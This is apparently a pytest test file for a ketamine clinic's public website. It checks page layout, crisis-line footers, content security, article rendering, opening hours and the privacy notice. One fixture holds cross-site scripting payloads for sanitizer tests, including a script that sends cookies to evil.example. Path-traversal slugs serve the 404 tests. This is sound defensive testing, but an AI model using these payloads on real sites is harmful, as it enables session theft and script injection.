"""The public site: home, articles, contact, the layout every page shares, and /healthz."""

import re
from datetime import UTC, date, datetime, time
from itertools import pairwise
from pathlib import Path

import pytest
import sqlalchemy as sa
from bs4 import BeautifulSoup
from sqlalchemy import select

from clinic.extensions import db
from clinic.models import ClinicSettings, Closure, OpeningHours
from clinic.public import articles
from tests.conftest import forget_process_caches

ROOT = Path(__file__).resolve().parents[2]
SLUGS = [
    "what-is-ketamine-therapy",
    "how-ketamine-works",
    "treatment-process",
    "benefits-and-side-effects",
    "myths-and-safety",
    "medicines-and-ketamine",
    "preparing-for-your-visit",
    "costs-and-insurance",
    "faq",
]
PUBLIC_PAGES = ["/", "/learn/", "/contact", "/privacy", *(f"/learn/{slug}" for slug in SLUGS)]
SATURDAY_MORNING = datetime(2026, 11, 21, 14, 0, tzinfo=UTC)  # 09:00 in New York


def soup(response) -> BeautifulSoup:
    return BeautifulSoup(response.get_data(as_text=True), "html.parser")


def words(node) -> str:
    """The visible text with runs of whitespace collapsed, as a reader sees it."""
    return " ".join(node.get_text(" ").split())


def assert_crisis_line(page: BeautifulSoup) -> None:
    footer = page.find("footer")
    assert footer is not None
    crisis = footer.find(class_="crisis-line")
    text = crisis.get_text(" ", strip=True)
    assert "911" in text and "988" in text
    assert "not monitored around the clock" in text
    assert crisis.find("a", href="tel:988") and crisis.find("a", href="tel:911")


@pytest.mark.parametrize("path", PUBLIC_PAGES)
def test_public_page_answers_with_crisis_line_and_landmarks(client, path):
    response = client.get(path)
    assert response.status_code == 200
    page = soup(response)
    assert_crisis_line(page)
    assert page.find("header") and page.find("main", id="main") and page.find("nav") and page.find("footer")
    assert page.find("a", class_="skip-link")["href"] == "#main"
    assert len(page.find_all("h1")) == 1
    assert page.html["lang"] == "en"


@pytest.mark.parametrize("path", PUBLIC_PAGES)
def test_public_page_has_own_title_description_and_open_graph(client, path):
    page = soup(client.get(path))
    title = page.title.get_text()
    description = page.find("meta", attrs={"name": "description"})["content"]
    assert title.endswith("· Northfield Clinic") and len(title) > len("· Northfield Clinic") + 5
    assert 40 <= len(description) <= 300
    og = {tag["property"]: tag["content"] for tag in page.find_all("meta", property=re.compile("^og:"))}
    assert og["og:title"] and og["og:description"] == description
    assert og["og:type"] == ("article" if path.startswith("/learn/") and path != "/learn/" else "website")


def test_titles_differ_between_pages(client):
    titles = {soup(client.get(path)).title.get_text() for path in PUBLIC_PAGES}
    assert len(titles) == len(PUBLIC_PAGES)


@pytest.mark.parametrize("path", PUBLIC_PAGES)
def test_public_page_loads_nothing_from_another_host_and_has_no_inline_code(client, path):
    response = client.get(path)
    page = soup(response)
    for tag in page.find_all(["script", "link", "img", "iframe", "source"]):
        url = tag.get("src") or tag.get("href") or ""
        assert url.startswith("/"), f"{tag.name} loads {url!r}"
    assert all(script.get("src") for script in page.find_all("script")), "inline script"
    assert not page.find_all(style=True), "inline style attribute"
    assert not page.find_all("style")
    assert not any(attr.startswith("on") for tag in page.find_all(True) for attr in tag.attrs)
    assert "default-src 'self'" in response.headers["Content-Security-Policy"]


@pytest.mark.parametrize("path", PUBLIC_PAGES)
def test_no_page_promises_a_cure(client, path):
    text = soup(client.get(path)).get_text(" ").lower()
    assert not re.search(r"\bcure[sd]?\b|\bguarantee|\b100%|\bmiracle|non-addictive", text)


def test_static_assets_are_served(client):
    for path in ("/static/css/app.css", "/static/js/slot-picker.js", "/static/img/favicon.svg"):
        response = client.get(path)
        assert response.status_code == 200, path
        response.close()


def test_every_vocabulary_class_is_styled():
    vocabulary = (ROOT / "static/css/VOCABULARY.md").read_text(encoding="utf-8")
    css = (ROOT / "static/css/app.css").read_text(encoding="utf-8")
    classes = set()
    for row in vocabulary.splitlines():
        if row.startswith("| `"):
            for code in re.findall(r"`([^`]+)`", row.split("|")[1]):
                for word in code.split():
                    name = word.rsplit(".", 1)[-1]
                    if re.fullmatch(r"[a-z][a-z0-9-]*", name):
                        classes.add(name)
    assert {"badge-urgent", "notice-crisis", "staff-shell", "button-secondary"} <= classes
    missing = sorted(name for name in classes if not re.search(rf"\.{name}(?![a-z0-9-])", css))
    assert missing == []


# Home


def test_home_offers_both_treatments_and_says_who_it_is_for(client):
    page = soup(client.get("/"))
    text = page.get_text(" ", strip=True)
    assert "IV ketamine infusions" in text and "Esketamine nasal spray" in text
    assert "adults aged 18 and over" in text
    assert "has not improved" in text
    assert "What happens at your first consultation" in text
    cta = page.find("main").find("a", string=re.compile("Request a consultation"))
    assert cta["href"] == "/book"


def test_home_links_to_every_article(client):
    page = soup(client.get("/"))
    hrefs = {a["href"] for a in page.find_all("a", href=True)}
    assert {f"/learn/{slug}" for slug in SLUGS} <= hrefs


def test_home_shows_hours_from_the_database(app, client, clock):
    clock.set(SATURDAY_MORNING)
    with app.app_context():
        monday = db.session.get(OpeningHours, 0)
        monday.opens, monday.closes = time(9, 0), time(16, 30)
        db.session.commit()
    page = soup(client.get("/"))
    rows = {
        row.th.get_text(" ", strip=True): row.td.get_text(strip=True)
        for row in page.find("table", class_="hours-table").tbody.find_all("tr")
    }
    assert rows["Monday"] == "9:00 AM to 4:30 PM"
    assert rows["Tuesday"] == "8:00 AM to 5:30 PM"
    assert rows["Saturday Today"] == "8:00 AM to 5:30 PM"
    assert rows["Sunday"] == "Closed"
    assert len(rows) == 7


def test_contact_shows_details_and_hours_from_the_database(app, client, clock):
    clock.set(SATURDAY_MORNING)
    with app.app_context():
        settings = db.session.scalars(select(ClinicSettings)).one()
        settings.name = "Riverside Clinic"
        settings.phone = "+1 (646) 555-0199"
        settings.email = "hello@riverside.example"
        settings.address = "9 Quay Road, Albany, NY 12207"
        db.session.get(OpeningHours, 5).opens = None
        db.session.get(OpeningHours, 5).closes = None
        db.session.commit()
    response = client.get("/contact")
    page = soup(response)
    main = page.find("main")
    text = main.get_text(" ", strip=True)
    assert "9 Quay Road, Albany, NY 12207" in text
    assert main.find("a", href="tel:+16465550199").get_text() == "+1 (646) 555-0199"
    assert main.find("a", href="mailto:hello@riverside.example")
    rows = {
        row.th.get_text(" ", strip=True): row.td.get_text(strip=True)
        for row in main.find("table", class_="hours-table").tbody.find_all("tr")
    }
    assert rows["Saturday Today"] == "Closed" and rows["Sunday"] == "Closed"
    assert rows["Friday"] == "8:00 AM to 5:30 PM"
    assert "Riverside Clinic" in page.title.get_text()
    assert main.find(class_="notice-crisis")


def test_contact_lists_upcoming_closures(app, client, clock):
    clock.set(SATURDAY_MORNING)
    with app.app_context():
        db.session.add_all(
            [
                Closure(start_date=date(2026, 11, 26), end_date=date(2026, 11, 26), reason="Thanksgiving"),
                Closure(
                    start_date=date(2026, 12, 2),
                    end_date=date(2026, 12, 2),
                    start_time=time(13, 0),
                    end_time=time(17, 30),
                    reason="Staff training",
                ),
                Closure(start_date=date(2027, 6, 1), end_date=date(2027, 6, 2), reason="Far away"),
            ]
        )
        db.session.commit()
    text = words(soup(client.get("/contact")).find("main"))
    assert "Thursday, November 26" in text and "Thanksgiving" in text
    assert "closed 1:00 PM to 5:30 PM (Staff training)" in text
    assert "Far away" not in text


# Articles


def test_learn_index_lists_every_article_in_order_with_summary(client):
    page = soup(client.get("/learn/"))
    cards = page.find("ul", class_="article-list").find_all("li", recursive=False)
    assert [card.a["href"] for card in cards] == [f"/learn/{slug}" for slug in SLUGS]
    for card in cards:
        assert len(card.find("p").get_text(strip=True)) > 40
    assert page.find(class_="cta").find("a", href="/book")


@pytest.mark.parametrize("slug", SLUGS)
def test_article_ends_with_consultation_call_to_action(client, slug):
    page = soup(client.get(f"/learn/{slug}"))
    article = page.find("article")
    assert article.h1.get_text(strip=True) == articles.article(slug).title
    cta = article.find_next_sibling(class_="cta")
    assert cta is not None and cta.find("a", href="/book")
    assert "consultation" in cta.get_text().lower()


def test_articles_link_to_the_next_in_order_and_the_last_back_to_the_index(client):
    for current, following in pairwise(SLUGS):
        nav = soup(client.get(f"/learn/{current}")).find("nav", class_="next-article")
        assert nav.find("a", rel="next")["href"] == f"/learn/{following}"
    last = soup(client.get(f"/learn/{SLUGS[-1]}")).find("nav", class_="next-article")
    assert last.find("a")["href"] == "/learn/"
    assert last.find("a", rel="next") is None


def test_long_article_has_table_of_contents_pointing_at_its_headings(client):
    page = soup(client.get("/learn/treatment-process"))
    toc = page.find("nav", class_="toc")
    targets = [a["href"] for a in toc.find_all("a")]
    heading_ids = ["#" + h2["id"] for h2 in page.find(class_="prose").find_all("h2")]
    assert targets == heading_ids
    assert "#step-1-the-initial-consultation" in targets


def test_short_article_has_no_table_of_contents():
    html, headings = articles.render_markdown("Intro.\n\n## Only one\n\nText.")
    assert len(headings) == 1
    assert '<h2 id="only-one">' in html


@pytest.mark.parametrize(
    "slug",
    [
        "no-such-article",
        "FAQ",
        "faq.md",
        "faq%2F..",
        "..%2F..%2Fconfig",
        "a_b",
        "faq-",
        "x" * 200,
        "%00",
        "faq%20",
        "ﬁaq",
    ],
)
def test_unknown_or_odd_slug_is_a_friendly_404(client, slug):
    response = client.get(f"/learn/{slug}")
    assert response.status_code == 404
    page = soup(response)
    assert "We couldn't find that page" in page.find("h1").get_text()
    assert_crisis_line(page)


def test_article_slug_check_never_touches_the_files(monkeypatch):
    monkeypatch.setattr(articles, "_read", lambda path: pytest.fail(f"read {path}"))
    for slug in ("../routes", "FAQ", "", "faq/../faq", "x" * 81):
        with pytest.raises(articles.ArticleNotFound):
            articles.article(slug)


def test_rendered_articles_are_cached_after_the_first_render(client, monkeypatch):
    reads: list[str] = []
    real_read = articles._read

    def counting_read(path):
        reads.append(path.name)
        return real_read(path)

    articles.clear_cache()
    monkeypatch.setattr(articles, "_read", counting_read)
    try:
        assert reads == [], "nothing is read before the first request"
        first = client.get("/learn/faq").get_data(as_text=True)
        assert sorted(reads) == sorted(f"{slug}.md" for slug in SLUGS)
        second = client.get("/learn/faq").get_data(as_text=True)
        client.get("/learn/")
        client.get("/")
        assert len(reads) == len(SLUGS), "a second render must not read the files again"
        assert first == second
        assert articles.article("faq") is articles.article("faq")
    finally:
        articles.clear_cache()


MALICIOUS = """
# Title <script>alert("x")</script>

<script>document.location='https://evil.example/?c='+document.cookie</script>

<img src=x onerror="alert(1)">

<a href="javascript:alert(1)" onclick="alert(2)">raw link</a>

[click me](javascript:alert(1)) [or me](JAVASCRIPT:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=)
[vb](vbscript:msgbox) [spaced](java&#x09;script:alert(1))

![tracker](https://evil.example/pixel.png "t")

<iframe src="https://evil.example"></iframe><style>body{display:none}</style>

## Fine heading

[safe](/book) [external](https://988lifeline.org) [mail](mailto:care@clinic.example)
"""


def test_article_rendering_strips_scripts_handlers_and_dangerous_links():
    html, _ = articles.render_markdown(MALICIOUS)
    page = BeautifulSoup(html, "html.parser")
    assert page.find_all(["script", "iframe", "style", "img", "object", "embed"]) == []
    for tag in page.find_all(True):
        assert not any(attr.startswith("on") or attr == "style" for attr in tag.attrs), tag
    hrefs = [a["href"] for a in page.find_all("a", href=True)]
    assert hrefs == ["/book", "https://988lifeline.org", "mailto:care@clinic.example"]
    assert "script:" not in " ".join(str(a.attrs) for a in page.find_all("a"))
    assert "<script" not in html.lower() and "<img" not in html.lower() and "<iframe" not in html.lower()
    assert "evil.example" not in " ".join(str(tag) for tag in page.find_all(True) if tag.attrs)


def test_sanitizer_removes_raw_html_that_reaches_it():
    dirty = (
        '<p onclick="x()">Hi<script>alert(1)</script><img src=x onerror=alert(1)>'
        '<a href="javascript:alert(1)">a</a><a href="/learn/faq" style="color:red">b</a></p>'
        '<h2 id="ok" class="x">H</h2>'
    )
    clean = articles.sanitize(dirty)
    assert "script" not in clean and "onerror" not in clean and "onclick" not in clean
    assert "javascript:" not in clean and "style=" not in clean and "<img" not in clean
    assert 'href="/learn/faq"' in clean and '<h2 id="ok">H</h2>' in clean


def test_article_sources_are_accurate_and_careful():
    """Facts that must hold in the words patients read (CONTENT-FACTS.md)."""
    text = " ".join(BeautifulSoup(item.html, "html.parser").get_text(" ") for item in articles.all_articles())
    text = " ".join(text.lower().split())
    assert "at least two antidepressants" in text
    assert "not everyone responds" in text
    assert "schedule iii" in text
    assert "at least two hours" in text
    assert "not drive until the next day, after a night's sleep" in text
    assert "off-label" in text
    assert "never turns anyone away on its own" in text
    assert "non-addictive" not in text


# Health check


def test_healthz_reports_ok(client):
    response = client.get("/healthz")
    assert response.status_code == 200
    assert response.is_json and response.get_json() == {"status": "ok", "database": "ok"}


# Settings-driven words, the home page's promises, and the privacy notice


def test_home_defines_trd_as_two_antidepressants_and_promises_no_certainty(client):
    text = words(soup(client.get("/")).find("main"))
    assert "antidepressants or talk therapy" not in text
    assert "tried at least two antidepressants" in text
    assert not re.search(r"suitable and safe|safe and suitable|stay awake", text)
    assert "not put to sleep" in text
    assert "allergy to ketamine or esketamine" in text


def test_slot_length_and_open_days_come_from_the_settings(app, client, clock):
    clock.set(SATURDAY_MORNING)
    with app.app_context():
        db.session.execute(sa.update(ClinicSettings).values(slot_minutes=45))
        db.session.get(OpeningHours, 5).opens = None
        db.session.get(OpeningHours, 5).closes = None
        db.session.commit()
    forget_process_caches(app)
    home = words(soup(client.get("/")).find("main"))
    assert "lasts 45 minutes" in home and "free 45-minute time" in home and "30 minutes" not in home
    book = soup(client.get("/book"))
    description = book.find("meta", attrs={"name": "description"})["content"]
    assert description.startswith("Pick a 45-minute")
    assert "Open Monday to Friday; closed on Saturday and Sunday." in description
    contact = soup(client.get("/contact")).find("meta", attrs={"name": "description"})["content"]
    assert contact.endswith("Open Monday to Friday; closed on Saturday and Sunday.")
    page = words(soup(client.get("/consultation?slot=2026-11-23T08:45:00-05:00")).find("main"))
    assert "(45 minutes)" in page


@pytest.mark.parametrize(
    ("closed", "summary", "closed_names"),
    [
        ({6}, "Open Monday to Saturday; closed on Sunday.", ["Sunday"]),
        ({5, 6}, "Open Monday to Friday; closed on Saturday and Sunday.", ["Saturday", "Sunday"]),
        (
            {1, 3, 6},
            "Open Monday, Wednesday, Friday and Saturday; closed on Tuesday, Thursday and Sunday.",
            None,
        ),
        ({4}, "Open Monday to Thursday, Saturday and Sunday; closed on Friday.", ["Friday"]),
        (set(), "Open Monday to Sunday.", []),
        (set(range(7)), "Opening hours are shown on our contact page.", None),
    ],
)
def test_week_summary_is_written_from_the_hours(closed, summary, closed_names):
    from clinic.public.wording import closed_days, week_summary
    from clinic.scheduling import DayHours

    hours = {day: None if day in closed else DayHours(time(8), time(17, 30)) for day in range(7)}
    assert week_summary(hours) == summary
    if closed_names is not None:
        assert closed_days(hours) == closed_names


def test_privacy_notice_says_what_why_who_how_long_how_and_the_rights(client):
    response = client.get("/privacy")
    assert response.status_code == 200
    main = soup(response).find("main")
    headings = [h.get_text(" ", strip=True) for h in main.find_all("h2")]
    assert headings == [
        "What we collect, and why",
        "Who can see it",
        "How long we keep it",
        "How we protect it",
        "Your rights",
        "Whom to ask",
    ]
    text = words(main)
    for right in ("see the details we hold about you", "get a copy", "ask us to correct"):
        assert right in text
    assert "We do not sell them" in text
    from clinic.services.booking.intake import CONSENT_VERSION

    assert f"Version {CONSENT_VERSION} of this notice" in text


def test_privacy_notice_names_the_clinics_contact_from_the_settings(app, client):
    with app.app_context():
        db.session.execute(
            sa.update(ClinicSettings).values(
                name="Riverside Clinic", phone="+1 (646) 555-0199", email="privacy@riverside.example"
            )
        )
        db.session.commit()
    forget_process_caches(app)
    ask = soup(client.get("/privacy")).find("section", attrs={"aria-labelledby": "ask-heading"})
    assert "Riverside Clinic" in ask.get_text()
    assert ask.find("a", href="tel:+16465550199") and ask.find("a", href="mailto:privacy@riverside.example")


@pytest.mark.parametrize("path", ["/", "/learn/faq", "/contact", "/book", "/privacy"])
def test_every_public_page_links_the_privacy_notice_from_its_footer(client, path):
    footer = soup(client.get(path)).find("footer")
    assert footer.find("a", href="/privacy", string="Privacy notice")
